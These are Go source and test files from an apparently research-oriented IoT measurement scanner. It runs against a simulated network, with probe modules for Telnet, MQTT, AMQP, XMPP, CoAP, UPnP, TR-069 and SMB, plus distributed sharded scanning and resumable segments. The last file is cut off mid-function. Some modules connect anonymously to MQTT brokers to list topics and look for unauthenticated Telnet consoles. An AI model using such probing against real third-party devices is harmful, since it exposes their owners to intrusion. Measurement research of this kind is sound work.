	}, MQTTModule{})

	// Exact equality modulo a sliver of probe-deadline noise under heavy
	// parallel load; nothing may appear that the baseline did not see.
	if diff := len(baseline) - len(dist.Results); diff < 0 || float64(diff) > 0.02*float64(len(baseline)) {
		t.Fatalf("distributed found %d hosts, single %d", len(dist.Results), len(baseline))
	}
	for _, r := range dist.Results {
		if !baseline[r.IP] {
			t.Fatalf("distributed found %v missing from baseline", r.IP)
		}
	}
	// Work is actually split: every vantage contributed.
	for i, nFound := range dist.PerVantage {
		if nFound == 0 {
			t.Fatalf("vantage %d found nothing: %v", i, dist.PerVantage)
		}
	}
}

func TestDistributedVantageBlocklists(t *testing.T) {
	n, _, _ := buildTestWorld(t, 200)
	prefix := netsim.MustParsePrefix("50.0.0.0/19")
	// One vantage is barred from half the range; the scan must then miss
	// the hosts that only its shard would have covered there.
	blocked := netsim.NewPrefixSet(netsim.MustParsePrefix("50.0.0.0/20"))
	dist := RunDistributed(context.Background(), DistributedConfig{
		Network: n, Prefix: prefix, Seed: 41,
		Vantages: []Vantage{
			{Source: 1, Blocklist: blocked},
			{Source: 2},
		},
	}, TelnetModule{})
	full := RunDistributed(context.Background(), DistributedConfig{
		Network: n, Prefix: prefix, Seed: 41,
		Vantages: []Vantage{
			{Source: 1},
			{Source: 2},
		},
	}, TelnetModule{})
	if len(dist.Results) >= len(full.Results) {
		t.Fatalf("blocklisted run found %d >= unrestricted %d",
			len(dist.Results), len(full.Results))
	}
	onlyFull, onlyBlocked := CoverageDelta(full.Results, dist.Results)
	if len(onlyBlocked) != 0 {
		t.Fatalf("blocklisted run found %d extra hosts", len(onlyBlocked))
	}
	inBlockedRange := 0
	for _, ip := range onlyFull {
		if blocked.Contains(ip) {
			inBlockedRange++
		}
	}
	if inBlockedRange == 0 {
		t.Fatal("coverage loss not in the blocklisted range")
	}
}

func BenchmarkDistributedScan4Vantages(b *testing.B) {
	n, _, _ := buildTestWorld(b, 100)
	prefix := netsim.MustParsePrefix("50.0.0.0/20")
	vantages := []Vantage{{Source: 1}, {Source: 2}, {Source: 3}, {Source: 4}}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		RunDistributed(context.Background(), DistributedConfig{
			Network: n, Prefix: prefix, Seed: uint64(i),
			Vantages: vantages,
		}, MQTTModule{})
	}
}
