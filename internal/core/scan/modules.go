package scan

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
	"openhire/internal/protocols/xmpp"
)

// grabWindow bounds how long a banner grab listens. The in-memory fabric
// answers in microseconds; the window only matters for stalled handlers.
// Every probe returns as soon as its conversation completes (the Telnet
// grab additionally exits on a prompt or on idle), so the window is pure
// headroom: it must be generous enough that handler goroutines starved by
// CPU contention still answer inside it, and its size does not affect scan
// throughput. 2s covers the worst observed case — six modules' workers
// contending on one core under the race detector's ~10x slowdown.
const grabWindow = 2 * time.Second

// AllModules returns probe modules for the paper's six protocols in Table 4
// order.
func AllModules() []ProbeModule {
	return []ProbeModule{
		AMQPModule{}, XMPPModule{}, CoAPModule{}, UPnPModule{}, MQTTModule{}, TelnetModule{},
	}
}

// ModuleFor returns the probe module for one protocol.
func ModuleFor(p iot.Protocol) (ProbeModule, bool) {
	for _, m := range AllModules() {
		if m.Protocol() == p {
			return m, true
		}
	}
	return nil, false
}

// TelnetModule probes ports 23 and 2323, grabbing the banner passively
// (Section 3.1.3: Telnet banners reveal unauthenticated console access).
type TelnetModule struct{}

// Protocol implements ProbeModule.
func (TelnetModule) Protocol() iot.Protocol { return iot.ProtoTelnet }

// Ports implements ProbeModule.
func (TelnetModule) Ports() []uint16 { return []uint16{23, 2323} }

// Probe implements ProbeModule.
func (TelnetModule) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	banner, err := telnet.Grab(ctx, conn, grabWindow)
	// An injected pathology outranks whatever the grab made of the bytes: a
	// tarpitted banner prefix can look like a complete (just terse) banner.
	if out, faulted := ConnOutcome(conn); faulted {
		return nil, out
	}
	if err != nil {
		return nil, OutcomeNone
	}
	return &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoTelnet, Transport: netsim.TCP,
		Banner: banner.Raw,
		Meta:   map[string]string{"telnet.text": banner.Text},
	}, OutcomeOK
}

// MQTTModule probes port 1883 with an anonymous CONNECT and records the
// CONNACK return code — "MQTT Connection Code:0" is the Table 2 indicator.
type MQTTModule struct{}

// Protocol implements ProbeModule.
func (MQTTModule) Protocol() iot.Protocol { return iot.ProtoMQTT }

// Ports implements ProbeModule.
func (MQTTModule) Ports() []uint16 { return []uint16{1883} }

// Probe implements ProbeModule.
func (MQTTModule) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	client := mqtt.NewClient(conn, grabWindow)
	code, err := client.Connect(fmt.Sprintf("probe-%08x", uint32(src)), "", "")
	if err != nil && err != mqtt.ErrRejected {
		if out, faulted := ConnOutcome(conn); faulted {
			return nil, out
		}
		return nil, OutcomeNone
	}
	res := &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoMQTT, Transport: netsim.TCP,
		Banner: []byte(fmt.Sprintf("MQTT Connection Code:%d", code)),
		Meta:   map[string]string{"mqtt.code": fmt.Sprintf("%d", code)},
	}
	if code == mqtt.ConnAccepted {
		// On open brokers the probe lists topics, as the paper does
		// ("all the topics and channels on the target host are listed").
		topics, _ := client.RetainedSnapshot("#", grabWindow, 32)
		names := make([]string, 0, len(topics))
		for t := range topics {
			names = append(names, t)
		}
		// RetainedSnapshot returns a map; sort so the recorded result is
		// deterministic for a fixed seed.
		sort.Strings(names)
		res.Meta["mqtt.topics"] = strings.Join(names, ",")
	}
	// The CONNACK code arrived, so the host is classified even if a stream
	// pathology later cut the topic listing short: the truncation budget is
	// deterministic, so the recorded topic set still is too.
	return res, OutcomeOK
}

// AMQPModule probes port 5672, reading connection.start server properties.
type AMQPModule struct{}

// Protocol implements ProbeModule.
func (AMQPModule) Protocol() iot.Protocol { return iot.ProtoAMQP }

// Ports implements ProbeModule.
func (AMQPModule) Ports() []uint16 { return []uint16{5672} }

// Probe implements ProbeModule.
func (AMQPModule) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	props, err := amqp.Probe(conn, grabWindow)
	if err != nil {
		if out, faulted := ConnOutcome(conn); faulted {
			return nil, out
		}
		return nil, OutcomeNone
	}
	return &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoAMQP, Transport: netsim.TCP,
		Banner: []byte(fmt.Sprintf("Product: %s Version: %s Mechanisms: %s",
			props.Product, props.Version, strings.Join(props.Mechanisms, " "))),
		Meta: map[string]string{
			"amqp.product":    props.Product,
			"amqp.version":    props.Version,
			"amqp.mechanisms": strings.Join(props.Mechanisms, " "),
		},
	}, OutcomeOK
}

// XMPPModule probes the client port 5222 (and server port 5269), recording
// the stream features banner.
type XMPPModule struct{}

// Protocol implements ProbeModule.
func (XMPPModule) Protocol() iot.Protocol { return iot.ProtoXMPP }

// Ports implements ProbeModule.
func (XMPPModule) Ports() []uint16 { return []uint16{5222} }

// Probe implements ProbeModule.
func (XMPPModule) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	banner, feats, err := xmpp.ProbeBanner(conn, "probe.invalid", grabWindow)
	if out, faulted := ConnOutcome(conn); faulted {
		return nil, out
	}
	if err != nil && banner == "" {
		return nil, OutcomeNone
	}
	return &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoXMPP, Transport: netsim.TCP,
		Banner: []byte(banner),
		Meta: map[string]string{
			"xmpp.mechanisms": strings.Join(feats.Mechanisms, " "),
			"xmpp.tls":        fmt.Sprintf("%v", feats.RequireTLS),
		},
	}, OutcomeOK
}

// CoAPModule probes UDP 5683 with the "/.well-known/core" query
// (Section 3.1.1).
type CoAPModule struct{}

// Protocol implements ProbeModule.
func (CoAPModule) Protocol() iot.Protocol { return iot.ProtoCoAP }

// Ports implements ProbeModule.
func (CoAPModule) Ports() []uint16 { return []uint16{5683} }

// Probe implements ProbeModule.
func (CoAPModule) Probe(_ context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	client := coap.NewClient(uint64(src)<<32 | uint64(dst.IP))
	probe := client.DiscoveryProbe()
	resp, qo := n.QueryX(src, dst, probe, spec.Options())
	if qo == netsim.QueryDropped {
		return nil, OutcomeTimeout // lost in flight: worth retransmitting
	}
	if resp == nil {
		return nil, OutcomeNone // dark, closed or deliberately silent: final
	}
	body, disclosed, err := coap.ParseDiscovery(resp)
	meta := map[string]string{
		"coap.disclosed": fmt.Sprintf("%v", err == nil && disclosed),
		"coap.reqbytes":  fmt.Sprintf("%d", len(probe)),
		"coap.respbytes": fmt.Sprintf("%d", len(resp)),
	}
	if err == nil {
		meta["coap.body"] = body
	}
	return &Result{
		Time: n.Clock().Now(), IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoCoAP, Transport: netsim.UDP,
		Response: resp, Meta: meta,
	}, OutcomeOK
}

// UPnPModule probes UDP 1900 with an ssdp:discover M-SEARCH.
type UPnPModule struct{}

// Protocol implements ProbeModule.
func (UPnPModule) Protocol() iot.Protocol { return iot.ProtoUPnP }

// Ports implements ProbeModule.
func (UPnPModule) Ports() []uint16 { return []uint16{1900} }

// Probe implements ProbeModule.
func (UPnPModule) Probe(_ context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	probe := upnp.BuildMSearch("ssdp:all")
	resp, qo := n.QueryX(src, dst, probe, spec.Options())
	if qo == netsim.QueryDropped {
		return nil, OutcomeTimeout
	}
	if resp == nil {
		return nil, OutcomeNone
	}
	meta := map[string]string{
		"upnp.reqbytes":  fmt.Sprintf("%d", len(probe)),
		"upnp.respbytes": fmt.Sprintf("%d", len(resp)),
	}
	if headers, ok := upnp.ResponseHeaders(resp); ok {
		meta["upnp.server"] = headers["SERVER"]
		meta["upnp.location"] = headers["LOCATION"]
		meta["upnp.usn"] = headers["USN"]
		meta["upnp.st"] = headers["ST"]
	}
	return &Result{
		Time: n.Clock().Now(), IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoUPnP, Transport: netsim.UDP,
		Response: resp, Meta: meta,
	}, OutcomeOK
}
