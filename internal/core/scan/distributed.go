package scan

import (
	"context"
	"sort"
	"sync"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// Vantage is one scanning location in a distributed scan: its own source
// address and optionally its own blocklist (regional compliance differs per
// vantage, the situation the paper cites from Wan et al. as motivation for
// geographically distributed scanners, Section 6).
type Vantage struct {
	Source    netsim.IPv4
	Blocklist *netsim.PrefixSet
}

// DistributedConfig configures a multi-vantage scan.
type DistributedConfig struct {
	Network  *netsim.Network
	Prefix   netsim.Prefix
	Seed     uint64
	Vantages []Vantage
	// WorkersPerVantage bounds each vantage's concurrency (0 = 32).
	WorkersPerVantage int
}

// DistributedResult aggregates a distributed scan.
type DistributedResult struct {
	// Results is the merged, per-address-deduplicated result set.
	Results []*Result
	// PerVantage counts responsive hosts found by each vantage.
	PerVantage []int
	// Stats aggregates probe counts across vantages.
	Stats Stats
}

// RunDistributed shards the permutation across the vantages (ZMap's shard
// mechanism) and runs them concurrently, merging results. Every address is
// probed by exactly one vantage, so the union equals a single-scanner sweep
// while wall-clock divides by the vantage count.
func RunDistributed(ctx context.Context, cfg DistributedConfig, module ProbeModule) DistributedResult {
	if len(cfg.Vantages) == 0 {
		return DistributedResult{}
	}
	if cfg.WorkersPerVantage == 0 {
		cfg.WorkersPerVantage = 32
	}
	var (
		mu     sync.Mutex
		merged = make(map[addrKey]*Result)
		per    = make([]int, len(cfg.Vantages))
		stats  Stats
		wg     sync.WaitGroup
	)
	for i, v := range cfg.Vantages {
		i, v := i, v
		wg.Add(1)
		go func() {
			defer wg.Done()
			s := NewScanner(Config{
				Network:   cfg.Network,
				Source:    v.Source,
				Prefix:    cfg.Prefix,
				Seed:      cfg.Seed, // same seed: shards partition one permutation
				Blocklist: v.Blocklist,
				Workers:   cfg.WorkersPerVantage,
				Shard:     i,
				Shards:    len(cfg.Vantages),
			})
			st := s.Run(ctx, module, func(r *Result) {
				mu.Lock()
				key := addrKey{ip: r.IP, port: r.Port}
				if _, dup := merged[key]; !dup {
					merged[key] = r
				}
				per[i]++
				mu.Unlock()
			})
			mu.Lock()
			stats.Probed += st.Probed
			stats.Blocked += st.Blocked
			stats.Responded += st.Responded
			stats.Timeouts += st.Timeouts
			stats.Resets += st.Resets
			stats.Partials += st.Partials
			stats.Negatives += st.Negatives
			stats.Retransmits += st.Retransmits
			stats.BreakerSkipped += st.BreakerSkipped
			if st.Elapsed > stats.Elapsed {
				stats.Elapsed = st.Elapsed // wall-clock = slowest vantage
			}
			mu.Unlock()
		}()
	}
	wg.Wait()

	out := DistributedResult{PerVantage: per, Stats: stats}
	for _, r := range merged {
		out.Results = append(out.Results, r)
	}
	sort.Slice(out.Results, func(i, j int) bool {
		if out.Results[i].IP != out.Results[j].IP {
			return out.Results[i].IP < out.Results[j].IP
		}
		return out.Results[i].Port < out.Results[j].Port
	})
	return out
}

type addrKey struct {
	ip   netsim.IPv4
	port uint16
}

// CoverageDelta compares two result sets and returns addresses only in a,
// only in b — the analysis a multi-vantage deployment runs to quantify
// location-dependent visibility.
func CoverageDelta(a, b []*Result) (onlyA, onlyB []netsim.IPv4) {
	inA := make(map[netsim.IPv4]bool)
	inB := make(map[netsim.IPv4]bool)
	for _, r := range a {
		inA[r.IP] = true
	}
	for _, r := range b {
		inB[r.IP] = true
	}
	for ip := range inA {
		if !inB[ip] {
			onlyA = append(onlyA, ip)
		}
	}
	for ip := range inB {
		if !inA[ip] {
			onlyB = append(onlyB, ip)
		}
	}
	sort.Slice(onlyA, func(i, j int) bool { return onlyA[i] < onlyA[j] })
	sort.Slice(onlyB, func(i, j int) bool { return onlyB[i] < onlyB[j] })
	return onlyA, onlyB
}

// ProtocolOf returns the module's protocol; tiny helper for distributed
// reports.
func ProtocolOf(m ProbeModule) iot.Protocol { return m.Protocol() }
