package scan

import (
	"context"
	"testing"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// BenchmarkProbeThroughput measures the end-to-end scan hot path: a full
// Telnet sweep of a /16 universe (2 ports per address, ~131k probes per
// iteration). The per-probe cost is the number that bounds Internet-wide
// sweep time, reported as ns/probe.
func BenchmarkProbeThroughput(b *testing.B) {
	n, _, prefix := buildTestWorld(b, 50)
	s := NewScanner(Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    5,
		Workers: 64,
	})
	b.ReportAllocs()
	b.ResetTimer()
	var probed uint64
	for i := 0; i < b.N; i++ {
		st := s.Run(context.Background(), TelnetModule{}, nil)
		probed += st.Probed
	}
	b.StopTimer()
	if probed == 0 {
		b.Fatal("no probes issued")
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(probed), "ns/probe")
}

// BenchmarkProbeThroughputUDP is the same sweep over a connectionless
// module (CoAP), isolating the Query path from the Dial goroutine cost.
func BenchmarkProbeThroughputUDP(b *testing.B) {
	n, _, prefix := buildTestWorld(b, 50)
	s := NewScanner(Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    5,
		Workers: 64,
	})
	b.ReportAllocs()
	b.ResetTimer()
	var probed uint64
	for i := 0; i < b.N; i++ {
		st := s.Run(context.Background(), CoAPModule{}, nil)
		probed += st.Probed
	}
	b.StopTimer()
	if probed == 0 {
		b.Fatal("no probes issued")
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(probed), "ns/probe")
}

// BenchmarkRunAllSequential is the six-protocol sweep of a /17 slice with
// modules run one after another — the pre-parallel pipeline shape.
func BenchmarkRunAllSequential(b *testing.B) {
	n, _, _ := buildTestWorld(b, 50)
	s := NewScanner(Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  netsim.MustParsePrefix("50.0.0.0/17"),
		Seed:    5,
		Workers: 96,
	})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchSink, _ = s.RunAll(context.Background(), AllModules())
	}
}

// BenchmarkRunAllParallel is the same sweep with all six modules scanning
// concurrently under the same total worker budget.
func BenchmarkRunAllParallel(b *testing.B) {
	n, _, _ := buildTestWorld(b, 50)
	s := NewScanner(Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  netsim.MustParsePrefix("50.0.0.0/17"),
		Seed:    5,
		Workers: 96,
	})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchSink, _ = s.RunAllParallel(context.Background(), AllModules())
	}
}

var benchSink map[iot.Protocol][]*Result
