package scan

import (
	"context"
	"sort"
	"sync"
	"time"

	"openhire/internal/iot"
)

// DefaultSegmentTargets is the checkpoint cadence for segmented scans:
// commit once per this many (address, port) targets probed.
const DefaultSegmentTargets = 4096

// SegmentedState is the scan leg's complete resumable state. Everything else
// the scanner touches — the world, the permutation group parameters, the
// backoff schedule, the fault model — is derivable from (seed, config), so
// this is just the walk position plus the outputs accumulated so far.
//
// The state marshals deterministically: results are kept sorted by
// (IP, Port), map keys serialize sorted, and wall-clock fields are excluded,
// so the checkpoint bytes at a given segment are a pure function of
// (seed, config) no matter how many kill/resume cycles preceded it.
type SegmentedState struct {
	// Module indexes the module currently being walked; entries below it in
	// Modules are complete.
	Module int `json:"module"`
	// Iterator is the current module's address-walk cursor. At a module
	// boundary it holds the fresh cursor the next module starts from (the
	// permutation is module-independent).
	Iterator IteratorCursor `json:"iterator"`
	// BreakerHits is the current module's circuit-breaker memory: blackholed
	// addresses fed so far per /24. Reset at each module boundary, exactly
	// as Run builds a fresh breaker per module.
	BreakerHits map[uint32]int `json:"breaker_hits,omitempty"`
	// TargetsFed is the cumulative (address, port) pairs handed to workers,
	// mirroring what Config.Progress reported — resumed runs seed their
	// progress counter from it.
	TargetsFed uint64 `json:"targets_fed"`
	// Modules holds per-module results and stats, one entry per module
	// reached so far.
	Modules []ModuleSnapshot `json:"modules"`
}

// ModuleSnapshot is one module's accumulated output.
type ModuleSnapshot struct {
	Protocol iot.Protocol `json:"protocol"`
	// Results are sorted by (IP, Port) — the same order runCollect returns —
	// and each target yields at most one result, so the order is total.
	Results []*Result `json:"results,omitempty"`
	// Stats accumulates across segments. Elapsed stays zero inside the
	// state (it is wall-clock); RunSegmented fills it only in the stats it
	// returns.
	Stats Stats `json:"stats"`
}

// RunSegmented scans every module sequentially in address segments of
// roughly segmentTargets (address, port) pairs, invoking onCommit after each
// segment's workers have drained with the full accumulated state. The caller
// persists the state (and may return checkpoint.ErrInterrupted to stop
// cleanly); a non-nil error from onCommit aborts the run and is returned.
//
// Passing a state a previous onCommit observed as resume continues the scan
// from that segment boundary. The final results and stats are identical to
// RunAllParallel's for the same config: probes are pure per-target, the
// breaker is consulted in permutation order by the single-threaded segment
// collector (worker-count independent, with its per-/24 memory carried
// across segments), and per-module results are merged in sorted order.
func (s *Scanner) RunSegmented(ctx context.Context, modules []ProbeModule, resume *SegmentedState,
	segmentTargets int, onCommit func(*SegmentedState) error) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	if segmentTargets <= 0 {
		segmentTargets = DefaultSegmentTargets
	}

	var limiter *rateLimiter
	if s.cfg.RatePerSec > 0 {
		limiter = newRateLimiter(s.cfg.RatePerSec)
	}
	faultModel := s.cfg.Network.Faults()
	maxAttempts := 1
	if faultModel != nil {
		maxAttempts = s.cfg.MaxAttempts
	}

	freshCursor := s.newIterator().Cursor()
	st := resume
	if st == nil {
		st = &SegmentedState{Iterator: freshCursor}
	}
	if st.BreakerHits == nil {
		st.BreakerHits = make(map[uint32]int)
	}

	elapsed := make(map[int]time.Duration, len(modules))
	for st.Module < len(modules) {
		m := modules[st.Module]
		for len(st.Modules) <= st.Module {
			st.Modules = append(st.Modules, ModuleSnapshot{Protocol: modules[len(st.Modules)].Protocol()})
		}
		ms := &st.Modules[st.Module]

		it := s.newIterator()
		it.Seek(st.Iterator)
		var breaker *prefixBreaker
		if faultModel != nil && s.cfg.BreakerThreshold > 0 {
			breaker = &prefixBreaker{model: faultModel, src: s.cfg.Source,
				threshold: s.cfg.BreakerThreshold, hits: st.BreakerHits}
		}

		moduleStart := time.Now()
		for {
			targets, exhausted := s.collectSegment(it, m, breaker, ms, segmentTargets)
			if len(targets) > 0 {
				s.probeSegment(ctx, m, targets, ms, maxAttempts, limiter)
				st.TargetsFed += uint64(len(targets))
				if s.cfg.Progress != nil {
					s.cfg.Progress(uint64(len(targets)))
				}
			}
			ms.Stats.Blocked = it.Blocked()
			st.Iterator = it.Cursor()
			elapsed[st.Module] += time.Since(moduleStart)
			moduleStart = time.Now()
			if exhausted {
				// Module boundary: advance and reset the per-module walk
				// state before committing, so a resume from this commit
				// starts the next module exactly as a fresh loop entry would.
				st.Module++
				st.Iterator = freshCursor
				st.BreakerHits = make(map[uint32]int)
			}
			if err := onCommit(st); err != nil {
				// The state is already durable; hand back what accumulated so
				// far so an interrupting caller can flush partial artifacts.
				results, stats := st.collect(elapsed)
				return results, stats, err
			}
			if exhausted {
				break
			}
		}
	}

	results, stats := st.collect(elapsed)
	return results, stats, nil
}

// collect flattens the per-module snapshots into the maps Run* callers use.
func (st *SegmentedState) collect(elapsed map[int]time.Duration) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	results := make(map[iot.Protocol][]*Result, len(st.Modules))
	stats := make(map[iot.Protocol]Stats, len(st.Modules))
	for i := range st.Modules {
		ms := &st.Modules[i]
		results[ms.Protocol] = ms.Results
		stt := ms.Stats
		stt.Elapsed = elapsed[i]
		stats[ms.Protocol] = stt
	}
	return results, stats
}

// newIterator builds the (module-independent) address iterator for this
// scanner's prefix, seed and sharding.
func (s *Scanner) newIterator() *AddressIterator {
	return NewAddressIterator(s.cfg.Prefix, s.cfg.Seed, s.cfg.Blocklist, s.cfg.Shard, s.cfg.Shards)
}

// collectSegment pulls the next ~max (address, port) targets from the walk,
// applying the breaker in permutation order (its skips and trace events
// happen here, on the single-threaded collector, exactly like Run's feed).
// It reports whether the walk is exhausted.
func (s *Scanner) collectSegment(it *AddressIterator, m ProbeModule, breaker *prefixBreaker,
	ms *ModuleSnapshot, max int) ([]target, bool) {
	ports := m.Ports()
	trace := s.cfg.OnProbe
	var proto iot.Protocol
	if trace != nil {
		proto = m.Protocol()
	}
	targets := make([]target, 0, max+len(ports))
	for len(targets) < max {
		ip, ok := it.Next()
		if !ok {
			return targets, true
		}
		if breaker != nil && breaker.skip(ip) {
			ms.Stats.BreakerSkipped += uint64(len(ports))
			if trace != nil {
				trace(ProbeEvent{Kind: ProbeBreakerSkip, Protocol: proto, IP: ip})
			}
			continue
		}
		for _, port := range ports {
			targets = append(targets, target{ip: ip, port: port})
		}
	}
	return targets, false
}

// probeSegment fans one segment's targets across the worker budget, waits
// for the barrier, and folds the segment's results and stats into ms.
// Results stay sorted by (IP, Port) after every segment.
func (s *Scanner) probeSegment(ctx context.Context, m ProbeModule, targets []target,
	ms *ModuleSnapshot, maxAttempts int, limiter *rateLimiter) {
	workers := s.cfg.Workers
	if workers > len(targets) {
		workers = len(targets)
	}
	shards := make([]workerStats, workers)
	var (
		mu      sync.Mutex
		segment []*Result
	)
	emit := func(r *Result) {
		mu.Lock()
		segment = append(segment, r)
		mu.Unlock()
	}
	done := ctx.Done()
	var wg sync.WaitGroup
	chunk := (len(targets) + workers - 1) / workers
	for w := 0; w < workers; w++ {
		lo := w * chunk
		hi := lo + chunk
		if hi > len(targets) {
			hi = len(targets)
		}
		if lo >= hi {
			break
		}
		wg.Add(1)
		go func(shard *workerStats, sub []target) {
			defer wg.Done()
			for _, t := range sub {
				select {
				case <-done:
					return // canceled: stop probing, the commit never happens
				default:
				}
				s.probeTarget(ctx, m, t, shard, maxAttempts, limiter, emit)
			}
		}(&shards[w], targets[lo:hi])
	}
	wg.Wait()

	for i := range shards {
		ms.Stats.Probed += shards[i].probed
		ms.Stats.Responded += shards[i].responded
		ms.Stats.Timeouts += shards[i].timeouts
		ms.Stats.Resets += shards[i].resets
		ms.Stats.Partials += shards[i].partials
		ms.Stats.Negatives += shards[i].negatives
		ms.Stats.Retransmits += shards[i].retransmits
	}
	// Workers append to segment in scheduling order, which varies with the
	// worker count; sort before the hook sees it so OnSegment observes a
	// deterministic per-segment view.
	sort.Slice(segment, func(i, j int) bool {
		if segment[i].IP != segment[j].IP {
			return segment[i].IP < segment[j].IP
		}
		return segment[i].Port < segment[j].Port
	})
	if s.cfg.OnSegment != nil {
		s.cfg.OnSegment(m.Protocol(), len(targets), segment)
	}
	ms.Results = append(ms.Results, segment...)
	sort.Slice(ms.Results, func(i, j int) bool {
		if ms.Results[i].IP != ms.Results[j].IP {
			return ms.Results[i].IP < ms.Results[j].IP
		}
		return ms.Results[i].Port < ms.Results[j].Port
	})
}
