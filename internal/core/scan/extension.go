package scan

import (
	"context"
	"fmt"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/tr069"
)

// ExtendedModules returns the future-work probe modules (Section 6 of the
// paper: TR-069 and SMB). They are not part of AllModules so the Table 4/5
// reproduction stays on the paper's six protocols.
func ExtendedModules() []ProbeModule {
	return []ProbeModule{TR069Module{}, SMBModule{}}
}

// TR069Module probes the CWMP connection-request port 7547.
type TR069Module struct{}

// Protocol implements ProbeModule.
func (TR069Module) Protocol() iot.Protocol { return iot.ProtoTR069 }

// Ports implements ProbeModule.
func (TR069Module) Ports() []uint16 { return []uint16{7547} }

// Probe implements ProbeModule.
func (TR069Module) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	pr, err := tr069.Probe(conn, grabWindow)
	if err != nil {
		if out, faulted := ConnOutcome(conn); faulted {
			return nil, out
		}
		return nil, OutcomeNone
	}
	return &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoTR069, Transport: netsim.TCP,
		Banner: []byte(fmt.Sprintf("HTTP %d Server: %s", pr.Status, pr.Server)),
		Meta: map[string]string{
			"tr069.status": fmt.Sprintf("%d", pr.Status),
			"tr069.server": pr.Server,
			"tr069.noauth": fmt.Sprintf("%v", pr.Unauthenticated),
		},
	}, OutcomeOK
}

// SMBModule probes port 445 with an SMB negotiate.
type SMBModule struct{}

// Protocol implements ProbeModule.
func (SMBModule) Protocol() iot.Protocol { return iot.ProtoSMB }

// Ports implements ProbeModule.
func (SMBModule) Ports() []uint16 { return []uint16{445} }

// Probe implements ProbeModule.
func (SMBModule) Probe(ctx context.Context, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint, spec ProbeSpec) (*Result, Outcome) {
	conn, err := n.Dial(ctx, src, dst, spec.Options())
	if err != nil {
		return nil, DialOutcome(err)
	}
	defer conn.Close()
	dialect, err := smb.Probe(conn, grabWindow)
	if err != nil {
		if out, faulted := ConnOutcome(conn); faulted {
			return nil, out
		}
		return nil, OutcomeNone
	}
	return &Result{
		Time: conn.DialTime, IP: dst.IP, Port: dst.Port,
		Protocol: iot.ProtoSMB, Transport: netsim.TCP,
		Banner: []byte("Dialect: " + dialect),
		Meta:   map[string]string{"smb.dialect": dialect},
	}, OutcomeOK
}
