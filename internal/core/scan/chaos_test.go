package scan

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/netsim/faults"
)

// chaosWorld builds a fresh universe + network for one chaos run. Every run
// gets its own world so no state (stats counters, broker sessions) leaks
// between the runs being compared.
func chaosWorld(t testing.TB, cidr string, boost float64, profile faults.Profile) (*netsim.Network, netsim.Prefix) {
	t.Helper()
	prefix := netsim.MustParsePrefix(cidr)
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 77, Prefix: prefix, DensityBoost: boost})
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	n.AddProvider(prefix, u)
	if m := faults.New(profile); m != nil {
		n.SetFaults(m)
	}
	return n, prefix
}

// chaosScan runs all six modules and returns a canonical text digest of the
// full result set plus the per-protocol stats. Byte-identical digests mean
// byte-identical scan output.
func chaosScan(t testing.TB, cidr string, boost float64, profile faults.Profile,
